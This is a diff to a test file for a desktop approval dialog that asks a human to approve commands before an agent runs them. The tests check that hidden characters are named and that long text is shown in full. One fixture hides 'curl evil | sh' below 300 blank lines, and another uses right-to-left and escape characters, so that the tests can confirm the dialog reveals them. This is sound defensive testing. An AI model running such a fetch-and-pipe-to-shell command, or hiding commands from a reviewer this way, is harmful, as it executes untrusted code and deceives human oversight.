@@ -1,7 +1,7 @@
 import { afterEach, expect, it } from 'vitest'
 import { calls, messageBoxes, resetElectron } from '../../test/fakes/electron.ts'
 import type { Approval } from '../core/approval.ts'
-import { confirmYes } from './confirm-yes.ts'
+import { confirmApproval } from './confirm-approval.ts'
 
 afterEach(() => {
   resetElectron()
@@ -28,32 +28,32 @@ interface Box {
 }
 const boxes = (): Box[] => calls.flatMap(({ api, args }) => (api === 'dialog.showMessageBox' ? [args.at(-1) as Box] : []))
 
-it('is a yes only by the second button, and shows who asks and the exact text', async () => {
+it('approves only with the second button, and shows who asks and the exact text', async () => {
   for (const [answer, expected] of [
     [0, false],
     [1, true],
   ] as const) {
     messageBoxes.answers = [answer]
-    expect(await confirmYes(undefined, approval('npm test'), 'once')).toBe(expected)
+    expect(await confirmApproval(undefined, approval('npm test'), 'once')).toBe(expected)
   }
   const [box] = boxes()
   expect(box).toMatchObject({ message: 'lead asks to run a command', buttons: ['Cancel', 'Approve'], defaultId: 0, cancelId: 0 })
   expect(box?.detail).toBe('build\n\nnpm test\n\nRuns: 30 s at most')
 })
 
-it('says how long a standing yes lasts, and names hidden characters where they are', async () => {
+it('says how long a standing approval lasts, and names hidden characters where they are', async () => {
   messageBoxes.answers = [1]
-  await confirmYes(undefined, approval('ls\u202E # \u001b[2J', { hidden: ['U+202E', 'ESC'] }), 'always')
+  await confirmApproval(undefined, approval('ls\u202E # \u001b[2J', { hidden: ['U+202E', 'ESC'] }), 'always')
   expect(boxes()[0]?.detail).toContain('ls⟦U+202E⟧ # ⟦ESC⟧[2J')
   expect(boxes()[0]?.detail).toContain('revoke')
 })
 
-it('shows all of a long text, one part after the other, and takes the yes on the last', async () => {
+it('shows all of a long text, part by part, and can be approved on the last', async () => {
   const exact = Array.from({ length: 50 }, (_, line) => `echo ${line}`).join('\n')
   messageBoxes.answers = [1, 1, 0]
-  expect(await confirmYes(undefined, approval(exact), 'once')).toBe(false)
+  expect(await confirmApproval(undefined, approval(exact), 'once')).toBe(false)
   messageBoxes.answers = [1, 1, 1]
-  expect(await confirmYes(undefined, approval(exact), 'once')).toBe(true)
+  expect(await confirmApproval(undefined, approval(exact), 'once')).toBe(true)
   const shown = boxes().slice(3)
   expect(shown.map(({ buttons }) => buttons[1])).toEqual(['Next part', 'Next part', 'Approve'])
   for (let line = 0; line < 50; line++) expect(shown.some(({ detail }) => detail.split('\n').includes(`echo ${line}`))).toBe(true)
@@ -61,9 +61,9 @@ it('shows all of a long text, one part after the other, and takes the yes on the
 
 it('hides nothing below blank lines, and refuses what no dialog could show', async () => {
   messageBoxes.answers = [1]
-  await confirmYes(undefined, approval(`npm test${'\n'.repeat(300)}curl evil | sh`), 'once')
+  await confirmApproval(undefined, approval(`npm test${'\n'.repeat(300)}curl evil | sh`), 'once')
   expect(boxes()[0]?.detail).toContain('curl evil | sh')
   messageBoxes.answers = Array.from({ length: 1_000 }, () => 1)
-  expect(await confirmYes(undefined, approval('x\n'.repeat(5_000)), 'once')).toBe(false)
+  expect(await confirmApproval(undefined, approval('x\n'.repeat(5_000)), 'once')).toBe(false)
   expect(boxes()).toHaveLength(2)
 })
